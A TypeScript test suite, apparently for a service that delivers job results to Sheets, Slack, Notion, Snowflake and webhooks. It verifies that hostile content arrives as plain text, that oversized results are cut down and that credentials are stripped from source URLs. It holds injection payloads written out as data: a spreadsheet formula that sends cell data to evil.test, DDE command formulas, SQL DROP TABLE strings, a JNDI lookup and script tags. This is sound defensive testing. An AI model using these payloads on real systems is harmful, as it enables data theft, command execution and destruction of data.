import { assert, describe, it } from "@effect/vitest"
import { Context, Effect, Layer, type Schema } from "effect"
import { Connectors } from "../../../src/deliveries/connectors/Connectors.ts"
import type { AttemptState, DeliveryPayload } from "../../../src/deliveries/connectors/content/Connector.ts"
import type { DestinationTarget } from "../../../src/deliveries/model/DestinationConfig.ts"
import { type Kind, kinds, openVendors, payloadOf } from "../../support/vendors/Vendors.ts"

const first: AttemptState = { number: 1, unsure_from: null, unsure_until: null, settled: [], begun_after: 0, others: 0 }

/** What a film could say or show to reach through a vendor at whoever reads it there. */
const attacks = [
  `=IMPORTXML("https://evil.test/?q="&A1,"//a")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "<!channel> <!here> <!everyone> <@U012345> <#C012345>",
  "<https://evil.test|Your invoice>",
  "*bold* _italic_ ~strike~ `code` ```block``` >quote",
  "https://evil.test/click",
  "[click](https://evil.test) ![x](https://evil.test/x.png)",
  `'); DROP TABLE JOBS; --`,
  `"; DROP TABLE JOBS; --`,
  "$$ ; DROP TABLE JOBS; $$",
  "${jndi:ldap://evil.test/a}",
  "\0null\0byte",
  "\uD800lone",
  "\u202Egnp.exe",
  "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>"
]

const hostile = (): DeliveryPayload =>
  payloadOf(1, {
    result: {
      title: attacks[0]!,
      note: attacks[5]!,
      [attacks[5]!]: attacks[6]!,
      [attacks[0]!]: attacks[0]!,
      ...Object.fromEntries(attacks.map((attack, at) => [`field ${at}`, attack])),
      list: attacks
    }
  })

const send = Effect.fnUntraced(function*(payload: DeliveryPayload, kind: Kind, more: object = {}) {
  const all = yield* Effect.acquireRelease(Effect.promise(() => openVendors()), ({ close }) => Effect.promise(close))
  const connectors = Context.get(yield* Layer.build(all.connectors), Connectors)
  const target = { ...all.target[kind], config: { ...all.target[kind].config, ...more } } as DestinationTarget
  const outcome = yield* connectors.deliver(target, payload, first)
  // The vendors object to formulas, mentions, unescaped text, and SQL that is not made of binds.
  assert.deepStrictEqual(all.violations, [])
  return { all, outcome }
})

describe("a hostile result", () => {
  for (const kind of kinds) {
    it.live(`is delivered to ${kind} as what it is, text`, () =>
      Effect.gen(function*() {
        const { all, outcome } = yield* send(hostile(), kind)
        assert.strictEqual(outcome.kind, "delivered", JSON.stringify(outcome))
        assert.lengthOf(all.held(kind), 1)
      }).pipe(Effect.scoped))
  }

  it.live("reaches Sheets as string values, every character of them, and never as a formula", () =>
    Effect.gen(function*() {
      const columns = attacks.map((_, at) => ({ column: `c${at}`, path: `/field ${at}` }))
      const { all } = yield* send(hostile(), "sheets", { columns })
      const [row] = all.sheets.rows
      assert.deepStrictEqual(
        row!.cells.map((cell) => cell.userEnteredValue),
        attacks.map((attack) => ({ stringValue: attack.replaceAll("\0", "\uFFFD").toWellFormed() }))
      )
    }).pipe(Effect.scoped))

  it.live("reaches Slack without markup, mention or link, apart from our own", () =>
    Effect.gen(function*() {
      for (const kind of ["slack", "slack_incoming"] as const) {
        const { all } = yield* send(hostile(), kind)
        const { body } = kind === "slack" ? all.slack.messages[0]! : all.hooks.messages[0]!
        assert.notInclude(body.text, "evil")
        const markup = body.blocks.flatMap(({ elements = [], fields = [], text }: any) =>
          [text, fields, elements].flat()
        )
          .filter((text: any) => text?.type === "mrkdwn")
        for (const { text, verbatim } of markup) {
          assert.isTrue(verbatim)
          const links = [...text.matchAll(/<([^|>]*)\|/gu)].map(([, url]) => url)
          for (const link of links) assert.match(link, /^https:\/\/(?:footnote\.test|example\.com)\//u)
          assert.notInclude(text, "evil")
        }
      }
    }).pipe(Effect.scoped))

  it.live("reaches Notion as text without a link, apart from our own", () =>
    Effect.gen(function*() {
      const { all } = yield* send(hostile(), "notion")
      const links: Array<string> = []
      JSON.stringify(all.notion.pages[0]!.body, (key, value) => {
        if ((key === "url" || key === "href") && typeof value === "string") links.push(value)
        return value
      })
      assert.isAbove(links.length, 0)
      for (const link of links) assert.match(link, /^https:\/\/(?:footnote\.test|example\.com)\//u)
    }).pipe(Effect.scoped))

  it.live("fills a Notion property that is a link with nothing but a web address, and only where its owner mapped it", () =>
    Effect.gen(function*() {
      for (const [at, attack] of attacks.entries()) {
        const { all } = yield* send(hostile(), "notion", { property_map: { Link: `/field ${at}` } })
        const { Link } = all.notion.pages[0]!.body.properties
        assert.deepStrictEqual(Link, attack.startsWith("https:") ? { url: attack } : undefined)
      }
    }).pipe(Effect.scoped))

  it.live("reaches Snowflake in binds alone, whatever its columns are called", () =>
    Effect.gen(function*() {
      const { all } = yield* send(hostile(), "snowflake", { columns: [{ column: "TITLE", path: "/title" }] })
      const { body } = all.calls.find(({ method }) => method === "POST")!
      const { statement } = JSON.parse(body)
      for (const attack of ["evil", "DROP", "IMPORTXML", "null"]) assert.notInclude(statement, attack)
      assert.strictEqual(JSON.parse([...all.snowflake.rows.values()][0]!["TITLE"]!), attacks[0])
    }).pipe(Effect.scoped))

  for (const name of [`JOBS"; DROP TABLE X; --`, "", `x"y`, `"`, "a\nb", "a\0b"]) {
    it.live(`is refused with an identifier such as ${JSON.stringify(name)}, before a byte leaves`, () =>
      Effect.gen(function*() {
        const all = yield* Effect.acquireRelease(
          Effect.promise(() => openVendors()),
          ({ close }) => Effect.promise(close)
        )
        const connectors = Context.get(yield* Layer.build(all.connectors), Connectors)
        const target = { ...all.target.snowflake, config: { ...all.target.snowflake.config, table: name } }
        const exit = yield* Effect.exit(Effect.suspend(() => connectors.deliver(target, payloadOf(1), first)))
        assert.strictEqual(exit._tag, "Failure")
        assert.lengthOf(all.calls, 0)
      }).pipe(Effect.scoped))
  }
})

const large = (length: number): Schema.Json => ({ title: "t".repeat(length), list: ["x".repeat(length)] })

describe("a result that is too large for its vendor", () => {
  for (const length of [3000, 60_000, 600_000, 1_100_000]) {
    for (const kind of kinds) {
      it.live(`${length} characters twice are taken by ${kind}, whole or by a link`, () =>
        Effect.gen(function*() {
          const payload = payloadOf(1, { result: large(length) })
          const { all, outcome } = yield* send(payload, kind)
          assert.strictEqual(outcome.kind, "delivered", JSON.stringify(outcome))
          for (const { body } of all.calls) assert.isBelow(Buffer.byteLength(body), 2_500_000)
          if (kind === "webhook" && length > 1_000_000) {
            const { data } = JSON.parse(all.webhook.received[0]!.body)
            assert.strictEqual(data.result_url, payload.links.result)
            assert.notProperty(data.job, "result")
          }
          if (kind === "snowflake") {
            const [row] = all.snowflake.rows.values()
            assert.strictEqual(row!["RESULT"] === null, length >= 600_000)
            assert.strictEqual(row!["RESULT_URL"], payload.links.app)
          }
          if (kind === "sheets" && length > 50_000) {
            const texts = all.sheets.rows[0]!.cells.map((cell) => cell.userEnteredValue?.stringValue)
            assert.include(texts, payload.links.page)
          }
        }).pipe(Effect.scoped))
    }
  }
})

describe("properties that are too large for a page together", () => {
  it.live("reach Notion cut to what it takes, with the links to the whole", () =>
    Effect.gen(function*() {
      const payload = payloadOf(1, { result: { title: "漫".repeat(150_000), note: "\u0001".repeat(150_000) } })
      const { all, outcome } = yield* send(payload, "notion")
      assert.strictEqual(outcome.kind, "delivered", JSON.stringify(outcome))
      const { children, properties } = all.notion.pages[0]!.body
      for (const texts of [properties.Name.title, properties.Note.rich_text]) {
        const text = texts.map(({ text }: any) => text.content).join("")
        assert.isAbove(text.length, 10_000)
        assert.isTrue(text.endsWith("…"))
      }
      assert.include(JSON.stringify(children), payload.links.page)
    }).pipe(Effect.scoped))
})

describe("the source's address", () => {
  it.live("goes out without a user, a password or a signature", () =>
    Effect.gen(function*() {
      const payload = payloadOf(1)
      const source_uri = "https://ada:secret@media.test/film.mp4?X-Amz-Signature=abc&X-Amz-Credential=def"
      for (const kind of ["sheets", "snowflake", "slack", "notion"] as const) {
        const { all } = yield* send({ ...payload, job: { ...payload.job, source_uri } }, kind)
        for (const { body } of all.calls) {
          assert.notInclude(body, "X-Amz")
          assert.notInclude(body, "ada:secret")
        }
      }
    }).pipe(Effect.scoped))
})
